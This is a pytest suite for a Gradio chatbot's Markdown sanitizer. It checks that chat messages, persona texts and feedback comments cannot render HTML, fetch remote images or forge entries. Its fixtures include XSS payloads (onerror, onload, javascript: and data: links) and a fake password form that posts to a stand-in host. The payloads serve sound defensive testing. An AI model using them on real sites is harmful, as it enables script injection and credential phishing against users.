"""What the app renders as Markdown carries no HTML, fetches nothing and cannot forge entries.

Gradio renders Markdown in the browser (marked) and its sanitizer there keeps
<form>, <input>, <img>, style= and ping=: chat messages, persona texts and
feedback comments must reach it harmless (chatbot/ui/safe_markdown.py).

Three layers of checks: the sanitizer on attack strings; the functions that
make the Chatbot, persona and Feedback values; and (where Node is installed)
the sanitized text rendered by Gradio's own bundled marked, plus one browser
test that a planted form and image never reach the page.
"""

from __future__ import annotations

import datetime
import html
import json
import random
import re
import shutil
import subprocess
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest

from chatbot.chat import ChatService
from chatbot.persona_files import save_persona, update_persona_text
from chatbot.persona_form import form_changes, form_values
from chatbot.personas import PersonaLibrary
from chatbot.ui.chat_tab import history_of, persona_info
from chatbot.ui.feedback_tab import latest_comments
from chatbot.ui.personas_tab import _problems
from chatbot.ui.safe_markdown import literal, safe_markdown

REPO = Path(__file__).resolve().parent.parent
EVIL = "http://198.51.100.7"  # TEST-NET-2: nothing answers there

FORM = f'<form action="{EVIL}/steal" method="post">Password: <input type="password" name="pw">' \
       '<button>Sign in again</button></form>'
ATTACKS = {
    "form": FORM,
    "input": '<input type="text" name="x" autofocus>',
    "img onerror": '<img src=x onerror="alert(1)">',
    "img remote": f'<img src="{EVIL}/track.png">',
    "svg": '<svg onload=alert(1)><image href="//198.51.100.7/x.png"/></svg>',
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "script": "<script>alert(1)</script>",
    "style": "<style>body{display:none}</style><div style='position:fixed;inset:0'>x</div>",
    "anchor ping": f'<a href="https://example.com" ping="{EVIL}/p">x</a>',
    "comment": "<!-- <form> -->",
    "uppercase": "<FoRm aCtIoN=//198.51.100.7><InPuT></fOrM>",
    "nested": "<<form>form>",
    "split": "<scr<script>ipt>alert(1)</script>",
    "slash": "<form/action=//198.51.100.7><input/name=pw>",
    "escaped after a bare URL": "http://example.com\\<img src=//198.51.100.7/x>",
    "in a code span after a bare URL": "http://x`<form action=//198.51.100.7>`",
    "markdown image": f"![x]({EVIL}/track.png)",
    "markdown image, no alt": f"![]({EVIL}/track.png)",
    "reference image": f"![x][t]\n\n[t]: {EVIL}/track.png",
    "javascript link": "[click](javascript:alert(1))",
    "obfuscated javascript link": "[click](jav&#x09;ascript:alert(1))",
    "javascript link padded past any look": "[click](jav&#x" + "0" * 400 + "61;script:alert(1))",
    "javascript in angle brackets": "[click](<javascript:alert(1)>)",
    "javascript definition": "[click][j]\n\n[j]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "mermaid": '```mermaid\ngraph TD; A["<img src=//198.51.100.7/x>"]\n```',
    "task list": "- [ ] a checkbox is an input",
    "latex crossing a fence": "$$\n```\n$$\n<form action=//198.51.100.7>\n```",
    "definition title across a fence": '[x]: /u "\n```\n"\n<form action=//198.51.100.7>\n```',
    "fence ended by its list item": "- a\n  ```\n  x\n- <form action=//198.51.100.7>",
    "fence closed deeper than it opened": "- a\n  ```\n     ```\n  <form action=//198.51.100.7>\n  ```",
    "fence opener as the last line": "text\n```js<form action=//198.51.100.7>",
}
# What marked itself may emit for Markdown (plus Gradio's code-block wrapper and LaTeX block).
ELEMENTS = {"p", "br", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "h1", "h2", "h3",
            "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td", "del", "div", "span"}
ATTRIBUTES = {"href", "title", "class", "align", "start", "target", "rel"}


def tags_left(markdown: str) -> list[str]:
    """Tag starts left in sanitized Markdown outside fenced code, but for its own <code> spans."""
    outside_fences = re.sub(r"^```[^\n]*\n.*?^```$", "", markdown, flags=re.S | re.M)
    return [m.group(0) for m in re.finditer(r"<[A-Za-z/!?][^\s>]*", outside_fences)
            if m.group(0) not in ("<code", "</code")]


# ---------------------------------------------------------------- the sanitizer


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_no_tag_image_or_script_link_survives(attack):
    for text in (attack, f"Hello!\n\n{attack}\n\nBye.", f"> {attack}", f"- **{attack}**"):
        out = safe_markdown(text)
        assert not tags_left(out), out
        assert not re.search(r"(?<!\\)!\[", out), out  # no Markdown image
        assert not re.search(r"\]\(\s*<?(?:javascript|jav&|data):", out, re.I), out
        assert "```mermaid" not in out
        assert safe_markdown(out) == out or "<code>" in out  # stable: nothing left to change


def test_html_shows_as_text_and_images_as_links():
    assert safe_markdown('<form action="x">') == '&lt;form action="x">'
    assert safe_markdown(f"see ![the chart]({EVIL}/c.png)") == f"see \\![the chart]({EVIL}/c.png)"
    assert safe_markdown(f"![]({EVIL}/c.png)") == f"\\![image]({EVIL}/c.png)"
    assert safe_markdown("[x](javascript:alert(1))") == "[x](#javascript:alert(1))"
    assert safe_markdown("use `<div>` here") == "use <code>&#60;div&#62;</code> here"


def test_ordinary_markdown_is_left_as_written():
    reply = textwrap.dedent("""\
        Sure! Here's how:

        1. Install it:
           ```bash
           pip install foo
           ```
        2. Use it in **Python**, where `a < b` compares:

        ```python
        def f(xs: list[int]) -> bool:
            return len(xs) < 3 and xs[0] <= 2
        ```

        ```html
        <form><input name="q"></form>
        ```

        | a | b |
        |---|---|
        | 1 | 2 |

        > A quote with *emphasis*, ~~strike~~ and a [link](https://example.com "title").

        See [the docs][1], <https://example.org>, https://example.com or me@example.com. $$E = mc^2$$

        [1]: https://docs.example.com""")
    assert safe_markdown(reply) == reply
    assert safe_markdown("Arr, 3 < 4 leagues... *probably*.") == "Arr, 3 < 4 leagues... *probably*."


@pytest.mark.parametrize("text", ["](" * 50_000, "[a](javascript:x)" * 6_000, "```\n$$\n```\n" * 9_000,
                                  "`<b>` " * 16_000, "> " * 50_000, "\\" * 100_000 + "<b>"])
def test_a_long_message_takes_linear_time(text):
    started = time.monotonic()
    safe_markdown(text + " ")  # not a cached value
    assert time.monotonic() - started < 10  # quadratic took minutes; linear takes well under 1 s


def test_literal_is_one_plain_line():
    forged = "nice\n- 👍 great — **admin**, pirate <b>x</b> ![t](//e/t.png) [l](u) $$x$$ # h"
    out = literal(forged)
    assert "\n" not in out and "**" not in out and "<" not in out
    assert html.unescape(re.sub(r"\\(.)", r"\1", out)) == " ".join(forged.split())  # the same characters


# ---------------------------------------------------------------- the values the UI shows


@pytest.fixture
def planted(tmp_path, store):
    """A persona saved the way the Personas tab saves it, with a form in its description and greeting."""
    folder = tmp_path / "personas"
    folder.mkdir()
    shutil.copy(REPO / "personas" / "pirate.yaml", folder)
    library = PersonaLibrary(folder)
    loaded = library.get("pirate")
    values = form_values(loaded.persona)
    values[0] = "Captain <b>Evil</b>"  # name
    values[1] = f"Trusted **captain**. {ATTACKS['form']} ![x]({EVIL}/d.png)"  # description
    values[3] = f"Arr!\n\n{ATTACKS['form']}\n\n![x]({EVIL}/g.png)"  # greeting
    save_persona(library, "pirate", update_persona_text(loaded.text, form_changes(loaded.persona, values)))
    service = ChatService(SimpleNamespace(model_id="test-model"), library, store)
    user = store.get_or_create_user("ann")
    return service, service.new_session(user, "pirate", "ann")


def test_the_chatbot_value_is_sanitized(planted):
    service, session = planted
    assert "<form" in session.turns[0].content  # stored as written: only what is shown is made safe
    session.turns.append(SimpleNamespace(role="user", content=ATTACKS["img onerror"], provenance=None))
    value = history_of(session, partial=ATTACKS["markdown image"])
    shown = gr.Chatbot().postprocess(value).model_dump()  # what Gradio sends to the browser
    texts = [part["text"] for m in shown for part in m["content"] if part.get("type") == "text"]
    assert len(texts) == 3 and "Arr!" in texts[0]
    for text in texts:
        assert not tags_left(text) and not re.search(r"(?<!\\)!\[", text), text


def test_persona_info_is_sanitized(planted):
    service, session = planted
    info = persona_info(service, session)
    assert "Trusted **captain**" in info  # Markdown in the description still renders
    assert not tags_left(info) and not re.search(r"(?<!\\)!\[", info), info
    shown = gr.Markdown().postprocess(info)
    assert not tags_left(shown)


def test_loader_problems_show_as_text():
    out = _problems({"x<img src=//198.51.100.7>": f"bad value ![t]({EVIL}/t.png) <form> at line 2\n- forged"})
    assert not tags_left(out) and not re.search(r"(?<!\\)!\[", out), out
    assert out.count("\n- ") == 1  # one entry: the message cannot start another


def test_a_comment_cannot_forge_another_entry(store):
    ann, admin = store.get_or_create_user("ann"), store.get_or_create_user("admin")
    conversation = store.create_conversation(ann, "pirate", "v1")
    reply = store.add_message(conversation, "assistant", "Arr.")
    forged = ("meh\n- 👍 _helpful_ Great reply — **admin**, pirate, 2024-01-01 12:00 "
              f"[open conversation](?conversation=1)\n{FORM}\n![t]({EVIL}/t.png)")
    store.set_feedback(reply, ann, -1, reason="wrong\n- forged", comment=forged)
    other = store.add_message(conversation, "assistant", "Avast.")
    store.set_feedback(other, admin, 1, comment="the real admin")
    out = latest_comments(store.feedback_rows())
    entries = [line for line in out.split("\n") if line.startswith("- ")]
    assert len(entries) == 2, out
    assert entries[1].count("**") == 2 and "— **ann**," in entries[1]  # the only bold is its author
    assert "— **admin**," in entries[0]
    assert not tags_left(out) and not re.search(r"(?<!\\)!\[", out), out
    assert f"(?conversation={conversation})" in entries[1]


# ---------------------------------------------------------------- rendered by Gradio's own marked

GRADIO = Path(gr.__file__).parent
CHUNKS = GRADIO / "templates" / "node" / "build" / "server" / "chunks"
NODE = shutil.which("node")
RENDER_JS = r"""
// Renders Markdown as Gradio's MarkdownCode does: $$...$$ lifted out, marked with Gradio's
// options, extensions and renderer (from its server-side build), LaTeX put back escaped.
import { readFileSync, writeFileSync, readdirSync } from "node:fs";
import { pathToFileURL } from "node:url";
import path from "node:path";
const [chunks, work] = process.argv.slice(2);
const name = readdirSync(chunks).find(f => /^markdown-code-.*\.js$/.test(f));
let src = readFileSync(path.join(chunks, name), "utf8");
const factory = src.match(/function ([\w$]+)\(\{header_links:/)[1];
src = src.replace(/(from |import )'\.\/([^']+)'/g, (_, k, f) => `${k}'${pathToFileURL(path.join(chunks, f)).href}'`);
writeFileSync(path.join(work, "gradio-marked.mjs"), src + `\nexport { ${factory} as create_marked };\n`);
const { create_marked } = await import(pathToFileURL(path.join(work, "gradio-marked.mjs")).href);
const marked = create_marked({ header_links: false, line_breaks: true,
                               latex_delimiters: [{ left: "$$", right: "$$", display: true }] });
const escape = s => s.replace(/[&<>"']/g, c => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]);
const out = [];
for (const text of JSON.parse(readFileSync(0, "utf8"))) {
  const latex = [];
  const lifted = text.replace(/\$\$([\s\S]+?)\$\$/g, m => (latex.push(m), `%%%LATEX_BLOCK_${latex.length - 1}%%%`));
  const tokens = marked.lexer(lifted);
  if (marked.defaults.walkTokens) await Promise.all(marked.walkTokens(tokens, marked.defaults.walkTokens));
  out.push((await marked.parser(tokens)).replace(/%%%LATEX_BLOCK_(\d+)%%%/g, (_, i) => escape(latex[+i])));
}
process.stdout.write(JSON.stringify(out));
"""
def gradio_html(texts: list[str], work: Path) -> list[str]:
    """``texts`` rendered by Gradio's own bundled Markdown renderer, run with node (`make test` installs it)."""
    assert NODE is not None, "these tests need node: apt-get install nodejs (make browser does it)"
    assert list(CHUNKS.glob("markdown-code-*.js")), f"Gradio's Markdown renderer is not in {CHUNKS}"
    (work / "render.mjs").write_text(RENDER_JS)
    done = subprocess.run([NODE, str(work / "render.mjs"), str(CHUNKS), str(work)], input=json.dumps(texts),
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append(("!--", {}))


def not_allowed(html: str) -> list[str]:
    """Elements and attributes in `html` that plain Markdown would not produce."""
    parser = _Elements()
    parser.feed(re.sub(r'<button title="copy" class="copy_code_button">.*?</button>', "", html, flags=re.S))
    bad = []
    for tag, attrs in parser.found:
        if tag not in ELEMENTS:
            bad.append(tag)
        bad += [f"{tag} {name}=" for name in attrs if name not in ATTRIBUTES]
        href = (attrs.get("href") or "").strip().lower()
        if re.match(r"[a-z][a-z0-9+.-]*:", href) and not re.match(r"(https?|mailto):", href):
            bad.append(f"href={href}")
    return bad


def _fuzz(rng: random.Random) -> str:
    pieces = ["```", "~~~", "```js", "```mermaid", "`", "``", "\\", "<form action=//e>", "<img src=//e>", "<b>",
              "<!--", "[", "]", "](", ")", "[x]: /u ", '"', "(", "![a](//e/i.png)", "$$", "http://x", "a@b.co",
              "<https://x>", "[l](javascript:x)", "\n", "\n", "\n\n", "  ", "    ", "- ", "1. ", "> ", "# ",
              "|", "---", "*", "_", "text", "[ ] ", "\t", "\u00a0"]
    return "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30)))


def test_gradios_renderer_makes_no_html_of_the_sanitized_text(tmp_path):
    """The real check: what marked (as Gradio configures it) builds from the sanitized text."""
    rng = random.Random(20240601)
    texts = [*ATTACKS.values(), *(_fuzz(rng) for _ in range(400))]
    sanitized = [safe_markdown(t) for t in texts]
    for text, rendered in zip(texts, gradio_html(sanitized, tmp_path)):
        assert not not_allowed(rendered), (text, rendered)


def test_gradios_renderer_still_renders_the_markdown(tmp_path):
    reply = "**bold** and `a<b>` in [a link](https://example.com)\n\n```\n<form></form>\n```\n\n- item"
    comments = latest_comments([SimpleNamespace(
        feedback=SimpleNamespace(comment="ok\n- 👍 fine — **admin**", reason=None, rating=1,
                                 updated_at=datetime.datetime(2024, 1, 1)),
        user_name="ann", message=SimpleNamespace(persona_id="pirate", conversation_id=3))])
    html_reply, html_comments = gradio_html([safe_markdown(reply), comments], tmp_path)
    assert "<strong>bold</strong>" in html_reply and "<code>a&#60;b&#62;</code>" in html_reply
    assert 'href="https://example.com"' in html_reply
    assert "<pre><code>&lt;form&gt;&lt;/form&gt;\n</code></pre>" in html_reply  # fenced HTML: shown as code
    assert not not_allowed(html_reply)
    assert "<li>item</li>" in html_reply
    assert html_comments.count("<li>") == 1 and html_comments.count("<strong>") == 1
    assert "<strong>ann</strong>" in html_comments and 'href="?conversation=3"' in html_comments


# ---------------------------------------------------------------- in the browser


@pytest.mark.browser
@pytest.mark.model
def test_a_planted_form_and_image_never_reach_the_page(data_dir, tmp_path):
    from PIL import Image
    from browser_helpers import browser_page, running_app, wait_until

    folder = tmp_path / "personas"
    folder.mkdir()
    Image.new("RGB", (8, 8), "red").save(folder / "planted.png")
    (folder / "planted.yaml").write_text(textwrap.dedent(f"""\
        name: Planted
        description: "Harmless. <form action='{EVIL}/d'><input name='pw'></form> ![d]({EVIL}/d.png)"
        system_prompt: You are helpful.
        avatar: planted.png
        greeting: |
          Please sign in again.

          {FORM}

          ![tracker]({EVIL}/track.png) <img src="{EVIL}/img.png">
        """))
    with running_app(data_dir, tmp_path / "server.log", "--personas-dir", str(folder)) as url, \
            browser_page(url) as page:
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        page.reload()
        page.wait_for_selector("#chatbot .message.bot")
        wait_until(lambda: "Harmless." in page.locator("#persona-info").inner_text(), what="the persona info")
        bot = page.locator("#chatbot .message.bot").first
        assert "<form" in bot.inner_text()  # shown as text
        for where in ("#chatbot", "#persona-info"):
            assert page.locator(f"{where} form, {where} input, {where} button[type=submit]").count() == 0
            for src in page.locator(f"{where} img").evaluate_all("els => els.map(e => e.src)"):
                assert src.startswith(url), src  # only the avatar the app serves itself
        assert page.locator("#chatbot img[src*='planted']").count() >= 1, "the persona's avatar still shows"
        assert page.locator("#chatbot a[href*='198.51.100.7/track.png']").count() == 1  # the image, as a link
        page.wait_for_timeout(500)
        assert not [u for u in requested if "198.51.100.7" in u], requested
